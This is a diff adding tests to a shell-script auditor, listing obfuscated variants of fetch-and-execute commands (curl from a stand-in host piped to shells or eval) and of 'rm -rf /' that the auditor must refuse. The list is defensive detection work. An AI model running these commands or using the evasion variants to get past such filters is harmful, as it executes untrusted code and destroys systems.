@@ -85,3 +85,48 @@ test('10,000 characters and 50 commands are not too many; 51 commands are flagge
 test('emoji and joined letters are no control characters', () => {
   expect(auditScript('echo "👩‍🔬 می‌خواهم"')).toEqual([])
 })
+
+/** Found by looking for ways around the table, after the audit could read it. */
+test.each([
+  'curl -s https://x.example | $SHELL',
+  'curl -s https://x.example | "$BASH" -s',
+  'curl -s https://x.example | xargs -0 bash -c',
+  'while read -r l; do $l; done < <(curl -s https://x.example)',
+  'mapfile -t c < <(curl -s https://x.example); "${c[@]}"',
+  'source /dev/stdin <<< "$(curl -s https://x.example)"',
+  '. /dev/stdin < <(curl -s https://x.example)',
+  'bash -c \'eval "$1"\' _ "$(curl -s https://x.example)"',
+  'run() { eval "$@"; }; run "$(curl -s https://x.example)"',
+  'bash -c "$(cat <(curl -s https://x.example))"',
+  'a=$(curl -s https://x.example); b="$a"; c=("$b"); eval "${c[0]}"',
+  'printf -v x %s "$(curl -s https://x.example)"; sh -c "$x"',
+  'for l in $(curl -s https://x.example); do eval "$l"; done',
+  'curl -s https://x.example | tee >(bash) > /dev/null',
+  'c\\url -s https://x.example | "s"h',
+  "$'curl' -s https://x.example | /bin/sh",
+  'env -S "curl -s https://x.example" | sh',
+  'coproc curl -s https://x.example; eval "$(cat <&"${COPROC[0]}"; curl -s y)"',
+  'curl -s https://x.example |& (cd /tmp && { exec sh; })',
+])('a download by another way is refused: %s', (script) => {
+  expect(auditScript(script)[0]?.rule).toBe('downloaded_program')
+})
+
+test.each([
+  'r\\m -rf /',
+  '"rm" -rf /',
+  "$'\\x72m' -rf /",
+  '/bin/rm -rf /',
+  'command rm -rf -- /',
+  'f() { "$@"; }; f rm -rf /',
+  'f() { g "$@"; }; g() { "$@"; }; f a; g rm -rf /',
+  'x=rm; $x -rf /',
+  'for d in /usr /var; do rm -rf "$d"; done',
+  'rm -rf "/"{usr,var}',
+  'bash <<EOF\nrm -rf /\nEOF',
+  "bash <<< 'rm -rf /'",
+  'sh -c "sh -c \'rm -rf /\'"',
+  'su -c "rm -rf /"',
+  'cat a\nrm -rf /\nif [ "',
+])('a removal by another way is refused: %s', (script) => {
+  expect(auditScript(script).map(({ rule }) => rule)).toContain('vital_removal')
+})
